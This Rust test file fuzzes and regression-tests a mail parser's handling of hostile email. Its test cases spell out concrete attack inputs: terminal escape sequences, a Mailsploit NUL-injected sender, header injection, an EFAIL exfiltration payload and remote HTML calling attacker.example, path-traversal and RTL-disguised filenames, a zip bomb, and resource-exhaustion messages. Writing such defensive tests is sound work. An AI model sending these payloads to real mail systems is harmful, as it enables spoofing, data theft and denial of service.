//! Mail that was made to harm or to confuse. Each message is read, or what was left of it is said, and nothing in what is read can
//! turn a terminal, a line or a path against us.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]
#![allow(clippy::print_stdout, reason = "how long each took is for people to see")]

use std::fmt::Write as _;
use std::time::Instant;

use demarche::adapters::mail;
use demarche::inbox::authenticity::{Standing, judge};
use demarche::inbox::{Content, Incoming, MailKind, Reading, fingerprint, understand};
use demarche::vocabulary::safe_text::is_unsafe;
use proptest::prelude::*;

const HEAD: &str = "From: A Person <person@mission.example>\nTo: outreach@coalition.example\nSubject: Re: Joint letter\nMessage-ID: <r@mission.example>\nMIME-Version: 1.0\n";

fn read(raw: &[u8]) -> (Incoming, Reading) {
    let message = mail::parse(raw);
    let reading = understand(&message);
    check(&message, 0);
    check_reading(&reading);
    (message, reading)
}

/// No control, no direction mark in anything that is read.
fn check(message: &Incoming, depth: usize) {
    assert!(depth <= 60, "messages nest without end");
    assert!(message.parts.len() <= 1_100, "{} parts", message.parts.len());
    for field in &message.fields {
        safe_line(&field.value);
        safe_line(&field.name);
        for person in &field.mailboxes {
            safe_line(&person.name);
            safe_line(&person.address);
        }
    }
    for part in &message.parts {
        [&part.media_type, &part.name].into_iter().for_each(|text| safe_line(text));
        assert!(!part.name.contains(['/', '\\']) && part.name != ".." && part.name != ".", "{:?}", part.name);
        part.disposition.iter().for_each(|text| safe_line(text));
        part.parameters.iter().for_each(|(name, value)| {
            safe_line(name);
            safe_line(value);
        });
        match &part.content {
            Content::Text(text) => safe_lines(text),
            Content::Message(inner) => check(inner, depth + 1),
            Content::Several | Content::File => {}
        }
    }
}

fn check_reading(reading: &Reading) {
    [&reading.subject, &reading.from.name, &reading.from.address].into_iter().for_each(|text| safe_line(text));
    let lists = [&reading.reasons, &reading.originals, &reading.addressed_to];
    lists
        .into_iter()
        .flatten()
        .chain(&reading.message_id)
        .chain(&reading.returned_subject)
        .for_each(|text| safe_line(text));
    for one in &reading.returned {
        safe_line(&one.address);
        safe_line(&one.words);
    }
    for file in &reading.enclosures {
        safe_line(&file.name);
    }
    safe_lines(&reading.text);
    safe_lines(&reading.whole);
    if let Some(calendar) = &reading.calendar {
        safe_line(&calendar.uid);
        safe_line(&calendar.by);
        calendar.comment.iter().for_each(|text| safe_lines(text));
    }
}

fn safe_line(text: &str) {
    assert!(!text.contains(is_unsafe), "{:?}", &text.chars().take(200).collect::<String>());
}

fn safe_lines(text: &str) {
    let bad = text.chars().find(|c| is_unsafe(*c) && *c != '\n' && *c != '\t');
    assert_eq!(bad, None);
}

/// What is expected of a case besides being harmless.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Wanted {
    /// Read to its end.
    Whole,
    /// Too much of something: said so.
    CutOff,
    Anything,
}

fn typed(content_type: &str, body: &str) -> Vec<u8> {
    format!("{HEAD}Content-Type: {content_type}\n\n{body}").into_bytes()
}

fn plain(body: &str) -> Vec<u8> {
    typed("text/plain; charset=utf-8", body)
}

fn nested_parts(count: usize) -> Vec<u8> {
    let mut raw = format!("{HEAD}Content-Type: multipart/mixed; boundary=b0\n\n");
    for level in 0..count {
        let _infallible = write!(raw, "--b{level}\nContent-Type: multipart/mixed; boundary=b{}\n\n", level + 1);
    }
    let _infallible = write!(raw, "--b{count}\n\nat the bottom\n");
    raw.into_bytes()
}

fn nested_messages(count: usize) -> Vec<u8> {
    let level = "Content-Type: message/rfc822\nSubject: again\n\n";
    format!("{HEAD}{}Subject: innermost\n\nwords\n", level.repeat(count)).into_bytes()
}

fn base64_of(bytes: &[u8]) -> String {
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let value = group.iter().fold(0_u32, |value, byte| value << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for place in 0..4 {
            let digit = usize::try_from(value >> (18 - 6 * place) & 63).unwrap();
            text.push(if place > group.len() { '=' } else { char::from(alphabet[digit]) });
        }
    }
    text
}

fn encoded_in_encoded(count: usize) -> Vec<u8> {
    let mut raw = b"Subject: innermost\n\nwords\n".to_vec();
    for _ in 0..count {
        raw = format!("Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n{}\n", base64_of(&raw))
            .into_bytes();
    }
    raw
}

fn named_file(disposition: &str) -> Vec<u8> {
    let body =
        format!("--b\nContent-Type: application/pdf\nContent-Disposition: attachment; {disposition}\n\n%PDF\n--b--\n");
    typed("multipart/mixed; boundary=b", &body)
}

/// Reliability, section 4, "incoming mail".
fn cases() -> Vec<(&'static str, Vec<u8>, Wanted)> {
    use Wanted::{Anything, CutOff, Whole};
    let head = |fields: &str| format!("{fields}Subject: x\n\nwords\n").into_bytes();
    let noise: Vec<u8> = (0..200_000_u32).map(|at| at.wrapping_mul(2_654_435_761).to_be_bytes()[0]).collect();
    let mut cases = vec![
        ("an escape in an encoded word", head("From: =?utf-8?q?=1B]52;c;cm0=07?= <a@x.example>\n"), Whole),
        (
            "line breaks in an encoded word",
            head("From: =?utf-8?b?YQ0KQmNjOiBiQHguZXhhbXBsZQ0K?= <a@x.example>\n"),
            Whole,
        ),
        (
            "NUL in From (Mailsploit)",
            head("From: =?utf-8?b?cG90dXNAeC5leGFtcGxlAA==?==?utf-8?q?=0A=00?=@attacker.example\n"),
            Whole,
        ),
        ("NUL as it is", b"From: a\0b <a\0@x.example>\nSubject: \0\n\n\0\x1b[2J\0\n".to_vec(), Whole),
        ("two From", head("From: a@x.example\nFrom: b@y.example\n"), Whole),
        ("a forged In-Reply-To", head("From: b@attacker.example\nIn-Reply-To: <letter@coalition.example>\n"), Whole),
        (
            "a forged delivery report",
            typed(
                "multipart/report; report-type=delivery-status; boundary=b",
                "--b\nContent-Type: message/delivery-status\n\nFinal-Recipient: rfc822; \u{202e}head@fra.example\u{1b}[31m\nAction: failed\nStatus: 5.1.1\n--b--\n",
            ),
            Whole,
        ),
        (
            "forged results of checks",
            head("Authentication-Results: mx.coalition.example; dmarc=pass header.from=x.example\nFrom: a@x.example\n"),
            Whole,
        ),
        ("no Message-ID", b"From: a@x.example\n\nwords\n".to_vec(), Whole),
        (
            "a Message-ID of a megabyte",
            format!("Message-ID: <{}@x.example>\nSubject: x\n\nwords", "a".repeat(1_000_000)).into_bytes(),
            CutOff,
        ),
        ("20,000 nested parts", nested_parts(20_000), CutOff),
        ("5,000 nested messages", nested_messages(5_000), CutOff),
        ("messages encoded in one another", encoded_in_encoded(8), CutOff),
        ("100,000 parts", typed("multipart/mixed; boundary=b", &"--b\n\nx\n".repeat(100_000)), CutOff),
        ("100,000 parts without a blank line", typed("multipart/mixed; boundary=b", &"--b\n".repeat(100_000)), CutOff),
        ("200,000 fields", format!("{}\nwords", "X-A: b\n".repeat(200_000)).into_bytes(), CutOff),
        ("200,000 fields of addresses", format!("{}\nwords", "To: a@x.example\n".repeat(200_000)).into_bytes(), CutOff),
        ("a field of 8 MB", format!("Subject: {}\n\nwords", "a".repeat(8 << 20)).into_bytes(), CutOff),
        ("a To of a megabyte of commas", format!("To: {}\n\nwords", ",".repeat(1 << 20)).into_bytes(), CutOff),
        ("500,000 folds", format!("Subject: a\n{}\nwords", " b\n".repeat(500_000)).into_bytes(), CutOff),
        (
            "a million encoded words",
            format!("Subject: {}\n\nwords", "=?utf-8?q?=41?= ".repeat(60_000)).into_bytes(),
            CutOff,
        ),
        (
            "a million beginnings of encoded words",
            format!("Subject: {}\n\nwords", "=?a?q?".repeat(170_000)).into_bytes(),
            CutOff,
        ),
        ("no boundary", typed("multipart/mixed", "--b\n\nwords\n--b--\n"), Whole),
        ("an empty boundary", typed("multipart/mixed; boundary=\"\"", "--\n\nwords\n----\n"), Whole),
        (
            "an endless boundary",
            typed(&format!("multipart/mixed; boundary={}", "b".repeat(100_000)), "words"),
            Anything,
        ),
        ("a boundary that never comes", typed("multipart/mixed; boundary=never", "words\n"), Whole),
        ("a boundary that never ends", typed("multipart/mixed; boundary=b", "--b\n\nwords"), Whole),
        ("bad base64", typed("text/plain\nContent-Transfer-Encoding: base64", "!!!! =A=B= \u{1}\n\u{202e}"), Whole),
        (
            "bad quoted-printable",
            typed("text/plain\nContent-Transfer-Encoding: quoted-printable", "=ZZ =1 =\n= =0"),
            Whole,
        ),
        ("a charset that nobody knows", typed("text/plain; charset=\"\\\"x\u{1b}\"", "w\u{e9}rds"), Whole),
        ("UTF-7", typed("text/plain; charset=utf-7", "+ADw-script+AD4-+IC4-+ABs-[31m"), Whole),
        ("UTF-16 without an end", typed("text/plain; charset=utf-16", "a\u{0}b"), Anything),
        ("ISO-2022-JP that never comes back", typed("text/plain; charset=iso-2022-jp", "\u{1b}$B$3$"), Anything),
        ("quotations in a row", plain(&"> ".repeat(500_000)), Anything),
        ("quotations in a column", plain(&format!("{}words\n", ">\n".repeat(200_000))), Anything),
        ("spaces in a row", plain(&" ".repeat(900_000)), Anything),
        ("a line without an end", plain(&"a".repeat(4 << 20)), CutOff),
        (
            "a bomb of zeros",
            typed(
                "application/zip; name=bomb.zip\nContent-Transfer-Encoding: base64",
                &format!("{}\n", "A".repeat(76)).repeat(60_000),
            ),
            Whole,
        ),
        (
            "remote HTML",
            typed("text/html", "<img src=http://attacker.example/p.gif><script>alert(1)</script><p>words"),
            Whole,
        ),
        ("HTML of open tags", typed("text/html", &"<div><table><".repeat(80_000)), Anything),
        ("HTML of entities", typed("text/html", &"&#x202e;&#27;&amp;&nosuch".repeat(40_000)), Anything),
        (
            "EFAIL",
            typed(
                "multipart/mixed; boundary=b",
                "--b\nContent-Type: text/html\n\n<img src=\"http://attacker.example/\n--b\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3\n--b\nContent-Type: text/html\n\n\">\n--b--\n",
            ),
            Whole,
        ),
        (
            "a body that is elsewhere",
            typed(
                "message/external-body; access-type=URL; URL=\"http://attacker.example/\"",
                "Content-Type: text/plain\n\n",
            ),
            Whole,
        ),
        ("a part of a message", typed("message/partial; id=a; number=1; total=9999", "Subject: x\n\nwords"), Whole),
        (
            "a calendar of every second",
            typed(
                "text/calendar; method=REPLY",
                "BEGIN:VCALENDAR\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:1\nRRULE:FREQ=SECONDLY;COUNT=999999999\nATTENDEE;PARTSTAT=ACCEPTED:mailto:a@x.example\nEND:VEVENT\nEND:VCALENDAR\n",
            ),
            Whole,
        ),
        (
            "a calendar of a million lines",
            typed("text/calendar; method=REPLY", &"BEGIN:VEVENT\n".repeat(90_000)),
            CutOff,
        ),
        ("zero bytes", Vec::new(), Whole),
        ("noise", noise, Anything),
        ("LF mail", plain("one\ntwo\n"), Whole),
        ("CR mail", b"From: a@x.example\rSubject: x\r\rone\rtwo\r".to_vec(), Whole),
        ("CR mail of two megabytes", format!("Subject: x\r\r{}", "words\r".repeat(350_000)).into_bytes(), CutOff),
        (
            "bytes beyond ASCII in a header",
            b"From: \xff\xfe\xe9 <a\xe9@x.example>\nSubject: \xd0\xcf\xc9\n\n\xff".to_vec(),
            Whole,
        ),
        (
            "a bounce of a megabyte of addresses",
            format!(
                "From: MAILER-DAEMON@x.example\nSubject: failure notice\n\n{}",
                "<a@x.example>: 550 no such user\n".repeat(30_000)
            )
            .into_bytes(),
            Anything,
        ),
        (
            "a bounce of a million at signs",
            format!("From: MAILER-DAEMON@x.example\nSubject: failure notice\n\n{}", "@".repeat(1_000_000)).into_bytes(),
            Anything,
        ),
        (
            "a report of 100,000 recipients",
            typed(
                "multipart/report; report-type=delivery-status; boundary=b",
                &format!(
                    "--b\nContent-Type: message/delivery-status\n\n{}",
                    "Final-Recipient: rfc822;a@x.example\nAction: failed\n\n".repeat(20_000)
                ),
            ),
            Anything,
        ),
        (
            "letters sent back within letters sent back",
            format!(
                "From: MAILER-DAEMON@x.example\nSubject: failure notice\n\n{}",
                "Received: a\nFrom: MAILER-DAEMON@x.example\nSubject: failure notice\nMessage-ID: <a@b>\nx\n"
                    .repeat(10_000)
            )
            .into_bytes(),
            Anything,
        ),
        ("absence without an end", plain(&"I am out of the office until 3 March. ".repeat(20_000)), Anything),
        ("numbers without an end", plain(&"1/2/3.4-5 ".repeat(80_000)), Anything),
        (
            "results of checks of brackets",
            format!("Authentication-Results: mx.coalition.example; {}\nFrom: a@x.example\n\nwords", "(".repeat(60_000))
                .into_bytes(),
            Anything,
        ),
    ];
    let names = [
        "filename=\"../../../etc/passwd\"",
        "filename=\"C:\\\\Windows\\\\a.exe\"",
        "filename=\"..\"",
        "filename=\"a\u{202e}fdp.exe\"",
        "filename*=utf-8''..%2F..%2Fa%00%1b.pdf",
        "filename=\"=?utf-8?q?..=2Fa=0D=0Ab?=\"",
        "filename=\"\"",
        "filename=\"/\"",
    ];
    cases.extend(names.into_iter().map(|name| ("a hostile name of a file", named_file(name), Whole)));
    cases
}

/// Messages of as many bytes as are taken at most.
fn largest() -> Vec<(&'static str, Vec<u8>)> {
    let filled = |head: &str, piece: &str| {
        let mut raw = format!("{HEAD}{head}\n").into_bytes();
        while raw.len() + piece.len() <= mail::LONGEST {
            raw.extend_from_slice(piece.as_bytes());
        }
        raw
    };
    let base64 = format!("{}\n", "QUJD".repeat(19));
    let mixed = "Content-Type: multipart/mixed; boundary=b\n\n--b\n\nwords\n--b\n";
    let paragraph =
        "I am out of the office <a@x.example> until 3 March. > 550 5.1.1 no such user =?utf-8?q?=41?= &amp; <p>\n";
    vec![
        (
            "50 MiB of a file",
            filled(&format!("{mixed}Content-Type: application/zip\nContent-Transfer-Encoding: base64\n"), &base64),
        ),
        (
            "50 MiB of quoted-printable",
            filled(
                &format!("{mixed}Content-Type: image/png\nContent-Transfer-Encoding: quoted-printable\n"),
                "=41=42=43=\n",
            ),
        ),
        ("50 MiB of text", filled("Content-Type: text/plain\n", paragraph)),
        ("50 MiB of one line", filled("Content-Type: text/plain\n", "a")),
        ("50 MiB of HTML", filled("Content-Type: text/html\n", "<div><b>&lt;words</b><br><blockquote>")),
        ("50 MiB of a bounce", filled("From: MAILER-DAEMON@x.example\n", "<a@x.example>: 550 no such user\n")),
        (
            "50 MiB of long parts of text",
            filled("Content-Type: multipart/mixed; boundary=b\n", &format!("--b\n\n{}", paragraph.repeat(500))),
        ),
        (
            "50 MiB of a message in base64",
            filled("Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n", &base64),
        ),
        ("50 MiB of fields", filled("X: y", "\nX-A: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")),
        ("50 MiB of parts", filled("Content-Type: multipart/mixed; boundary=b\n", "--b\n\nx\n")),
    ]
}

#[test]
#[ignore = "it writes all of it as files, below target/tmp/hostile, to be read by the program"]
fn hostile_mail_is_written_as_files() {
    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile");
    std::fs::create_dir_all(&folder).unwrap();
    let all = cases().into_iter().map(|(name, raw, _)| (name, raw)).chain(largest());
    for (number, (name, raw)) in all.enumerate() {
        let name: String = name.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
        std::fs::write(folder.join(format!("{number:02}-{name}.eml")), raw).unwrap();
    }
}

#[test]
fn no_message_harms_and_each_is_read_or_what_was_left_is_said() {
    for (name, raw, wanted) in cases() {
        let begin = Instant::now();
        let (message, _) = read(&raw);
        let _digest = fingerprint(&raw);
        let _judged = judge(&message, Some("mx.coalition.example"));
        println!("{:>9.1?}  {name}", begin.elapsed());
        match wanted {
            Wanted::Whole => assert_eq!(message.cut_off, None, "{name}"),
            Wanted::CutOff => assert!(message.cut_off.is_some(), "{name}"),
            Wanted::Anything => {}
        }
    }
}

#[test]
fn the_largest_message_is_read_and_one_that_is_larger_as_far_as_it_goes() {
    let begin = Instant::now();
    let head = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=b\n\n--b\n\nwords\n--b\nContent-Type: application/zip\nContent-Transfer-Encoding: base64\n\n"
    );
    let line = format!("{}\n", "QUJD".repeat(19));
    let mut raw = head.into_bytes();
    while raw.len() < mail::LONGEST - 100 {
        raw.extend_from_slice(line.as_bytes());
    }
    let (message, reading) = read(&raw);
    assert_eq!((message.cut_off, reading.text.as_str(), reading.enclosures.len()), (None, "words", 1));
    assert!(reading.enclosures[0].bytes > 35_000_000);
    println!("{:>9.1?}  50 MiB", begin.elapsed());
    raw.resize(mail::LONGEST + 1, b'\n');
    assert!(read(&raw).0.cut_off.is_some());
}

#[test]
fn what_is_forged_is_shown_as_such_and_believed_in_nothing() {
    let (message, reading) = read(b"From: a@x.example\nFrom: b@y.example\n\nwords");
    assert!(reading.several_from);
    assert_eq!(judge(&message, Some("mx.coalition.example")).standing, Standing::Suspicious);
    let forged = b"Received: from attacker.example by mx.coalition.example; Mon, 5 Feb 2018\n\
        Received: from x.example by attacker.example; Mon, 5 Feb 2018\n\
        Authentication-Results: mx.coalition.example; dmarc=pass header.from=x.example\nFrom: a@x.example\n\nwords";
    assert_eq!(judge(&read(forged).0, Some("mx.coalition.example")).standing, Standing::Unverified);
}

#[test]
fn a_hostile_calendar_only_proposes() {
    let calendar = cases().into_iter().find(|(name, ..)| *name == "a calendar of every second").unwrap().1;
    let (_, reading) = read(&calendar);
    assert_eq!(reading.kind, MailKind::CalendarReply);
    assert_eq!(reading.calendar.unwrap().proposes, None);
}

/// Pieces from which mail is made, the broken ones too.
fn piece() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        prop::sample::select(vec![
            "From: a@x.example\n",
            "Subject: =?utf-8?q?=1B?=\n",
            "Content-Type: multipart/mixed; boundary=b\n",
            "Content-Type: multipart/report; boundary=\"\n",
            "Content-Type: message/rfc822\n",
            "Content-Transfer-Encoding: base64\n",
            "\n",
            "--b\n",
            "--b--\n",
            "\r",
            "\0",
            "> ",
            "=?",
            "?=",
            "Content-Type: text/html; charset=",
            "Final-Recipient: rfc822;a@x.example\n",
            "Action: failed\n",
            "--- Below this line is a copy of the message.\n",
            "Received: from a by b\n",
            "Auto-Submitted: auto-replied\n",
            "I will be back on 31 February 2018\n",
            "BEGIN:VEVENT\n",
            "METHOD:REPLY\n",
            "(((",
            "\"",
            "<",
            ">",
            "@",
            "é",
            "\u{202e}",
        ])
        .prop_map(|text| text.as_bytes().to_vec()),
        prop::collection::vec(any::<u8>(), 0..12),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_put_together_is_read_and_harmless(pieces in prop::collection::vec(piece(), 0..60), server in "[a-z.]{0,9}") {
        let raw = pieces.concat();
        let (message, _) = read(&raw);
        let _judged = judge(&message, Some(&server));
        let whole = fingerprint(&raw);
        prop_assert_eq!(whole, fingerprint(&raw));
        for part in message.parts.iter().take(20) {
            prop_assert!(mail::enclosed(&raw, part.number).is_some() || part.number > 0);
        }
    }

    #[test]
    fn a_mail_with_some_bytes_changed_is_read_and_harmless(at in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..12)) {
        let mut raw = include_bytes!("data/mail/bounce.eml").to_vec();
        for (index, byte) in at {
            let index = index.index(raw.len());
            raw[index] = byte;
        }
        read(&raw);
    }
}
